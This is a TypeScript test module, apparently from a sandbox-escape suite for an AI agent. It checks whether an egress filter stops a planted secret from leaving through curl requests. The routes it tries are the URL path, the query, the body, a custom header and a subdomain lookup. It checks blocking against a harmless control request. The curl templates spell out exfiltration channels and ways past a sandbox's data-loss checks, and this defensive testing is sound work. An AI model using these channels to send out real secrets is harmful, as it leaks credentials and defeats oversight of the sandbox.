/** Attacks 3 and 4a of the sandbox-escape suite: a planted secret on its way to a listed host. */

import { SITES } from '../internet/internet.ts';
import { curl, type Probe, reasonOf, statusOf } from './probe.ts';
import { PLANTED_SECRET } from './web.ts';

const HARMLESS = 'an-ordinary-word';

/** The same request with a harmless word must arrive, with the secret it must not; `by` is how the refusal starts. */
const planted = (title: string, by: RegExp, command: (text: string) => string): Probe => ({
  title,
  expected: 'refused',
  run: async ({ agent, internet }) => {
    const before = (await internet.received('allowed')).length;
    const control = await agent(curl(command(HARMLESS)));
    const outcome = await agent(curl(command(PLANTED_SECRET)));
    const arrived = (await internet.received('allowed')).slice(before);
    const leaked = arrived.some((request) => JSON.stringify(request).includes(PLANTED_SECRET));
    const controlled = arrived.some((request) => JSON.stringify(request).includes(HARMLESS));
    return {
      ok: statusOf(outcome) === 403 && by.test(reasonOf(outcome)) && !leaked && statusOf(control) === 200 && controlled,
      seen: `${statusOf(outcome)} ${reasonOf(outcome)}`,
      arrived: leaked ? 'THE SECRET' : `the harmless request only (${statusOf(control)})`,
    };
  },
});

const BY_PIPELOCK = /^blocked|pipelock|DLP|dlp|secret/i;
const base = `https://${SITES.allowed}/v1`;

export const plantedSecrets: readonly Probe[] = [
  planted('a secret in the path', BY_PIPELOCK, (text) => `${base}/${text}`),
  planted('a secret in the query', BY_PIPELOCK, (text) => `'${base}/x?q=${text}'`),
  planted('a secret in the body', BY_PIPELOCK, (text) => `-d 'key=${text}' ${base}/x`),
  planted('a secret in a custom header', BY_PIPELOCK, (text) => `-H 'X-Note: ${text}' ${base}/x`),
];

export const secretAsSubdomain: Probe = {
  title: 'a secret as a sub-domain of a listed host',
  expected: 'refused',
  run: async ({ agent, internet }) => {
    const host = `${PLANTED_SECRET.toLowerCase()}.${SITES.allowed}`;
    const outcome = await agent(curl(`-k https://${host}/v1/x`));
    const leaked = (await internet.received('allowed')).some(
      ({ headers }) => headers['host']?.startsWith(host) ?? false,
    );
    const queried = (await internet.queries()).some((name) => name.includes(PLANTED_SECRET.toLowerCase()));
    return {
      ok: statusOf(outcome) === 403 && !leaked && !queried,
      seen: `${statusOf(outcome)} ${reasonOf(outcome)}`,
      arrived: leaked || queried ? 'THE SECRET' : 'nothing',
    };
  },
};
